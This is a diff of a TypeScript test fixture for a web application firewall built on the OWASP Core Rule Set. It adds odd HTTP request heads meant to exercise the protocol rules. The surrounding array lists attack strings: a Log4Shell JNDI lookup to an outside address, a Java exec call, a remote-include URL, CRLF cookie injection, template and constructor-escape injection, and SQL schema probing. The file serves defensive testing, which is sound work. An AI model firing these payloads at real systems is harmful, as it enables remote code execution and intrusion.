@@ -44,3 +44,23 @@ export const attacks = [
   '${jndi:ldap://203.0.113.9/a}', 'java.lang.Runtime.getRuntime().exec("id")', 'http://203.0.113.9/shell.txt?', 'en\r\nSet-Cookie: session=evil',
   '{{7*7}}', 'this.constructor.constructor("return process")()', '\x00\x01\x02', 'SELECT * FROM information_schema.tables',
 ];
+
+/**
+ * Heads CRS's protocol rules read as a whole: restricted headers (920450 records every header name
+ * in TX, then looks them up), repeated and missing ones, a header whose name is one of CRS's own TX
+ * names, and the same head with its fields in another order.
+ */
+export function oddHeads(): WafRequest[] {
+  const base = { method: 'GET', url: '/', protocol: 'HTTP/1.1', client: '198.51.100.7', id: 'x', body: Buffer.alloc(0) };
+  const ua = ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0'];
+  return [
+    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'proxy', 'http://203.0.113.9/'] },
+    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'lock-token', 'x', 'content-encoding', 'gzip'] },
+    { ...base, headers: ['host', 'shop.example', 'accept', '*/*', ...ua, 'content-encoding', 'gzip', 'proxy', 'x'] },
+    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'content-type', 'text/plain', 'content-type', 'application/json'] },
+    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'multipart_headers_content_types_x', 'text/html; charset=utf-7'] },
+    { ...base, headers: ['host', 'shop.example', ...ua] },
+    { ...base, headers: ['host', '203.0.113.9', 'accept', '*/*'] },
+    { ...base, method: 'POST', url: '/api', headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'content-type', 'application/json', 'proxy', 'x'], body: Buffer.from('{"a":"b"}') },
+  ];
+}
